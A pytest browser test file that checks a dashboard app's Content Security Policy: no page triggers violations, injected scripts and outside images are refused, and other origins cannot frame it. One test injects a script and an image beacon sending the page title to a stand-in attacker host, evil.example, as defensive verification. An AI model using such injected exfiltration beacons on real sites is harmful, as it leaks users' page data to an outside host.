"""Every page, as `serve` serves it: the content policy lets it be drawn, and nothing asks for what is refused."""

import re
import sys
import time

import pytest

from csdash.ui.navigation import PAGES
from tools.serving import free_port, serving

pytestmark = pytest.mark.browser
VIOLATIONS = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (event) =>
    window.violations.push(`${event.effectiveDirective} ${event.blockedURI}`));
"""


@pytest.fixture(scope="module")
def guarded(company):
    port = free_port()
    command = [sys.executable, "-m", "csdash", "serve", "--data", str(company), "--port", str(port)]
    with serving(command, port, seconds=120) as url:
        yield url


def test_no_page_asks_for_what_the_content_policy_refuses(guarded, reader):
    one = reader(guarded)
    one.page.add_init_script(VIOLATIONS)
    drawn = set()
    for page in PAGES:
        one.open(page.url_path)
        drawn |= {"chart"} if one.page.locator(".js-plotly-plot .main-svg").count() else set()
        assert (page.url_path, one.page.evaluate("window.violations")) == (page.url_path, [])
    # Hovering and the menu draw what was not there before.
    one.open("nrr")
    one.page.locator(".js-plotly-plot .main-svg").first.hover()
    one.page.locator(".st-key-share button").first.click()
    assert one.page.evaluate("window.violations") == []
    assert drawn == {"chart"}
    assert one.errors == []
    assert one.outside == []


def test_a_script_that_is_not_ours_would_be_refused(guarded, reader):
    one = reader(guarded)
    one.page.add_init_script(VIOLATIONS)
    one.open("definitions")
    one.page.evaluate(
        "() => { const s = document.createElement('script'); s.textContent = 'window.pwned = 1'; document.body.append(s); "
        "const i = new Image(); i.src = 'https://evil.example/?' + document.title; }"
    )
    # Asked again and again: a function that waits inside would have to be compiled there, which is refused as well.
    deadline = time.monotonic() + 10
    while len(one.page.evaluate("window.violations")) < 2 and time.monotonic() < deadline:
        one.page.wait_for_timeout(50)
    assert one.page.evaluate("window.pwned") is None
    assert sorted(text.split()[0] for text in one.page.evaluate("window.violations")) == [
        "img-src",
        "script-src-elem",
    ]


def test_no_other_page_frames_it(guarded, reader):
    one = reader(guarded)
    one.page.route(
        "**/frame.html",
        lambda route: route.fulfill(
            body=f"<iframe src='{guarded}/definitions'></iframe>", content_type="text/html"
        ),
    )
    one.page.goto("http://other.localhost/frame.html")
    one.page.wait_for_timeout(500)
    framed = [frame for frame in one.page.frames if frame != one.page.main_frame]
    assert not [frame for frame in framed if re.search("stApp", frame.content())]
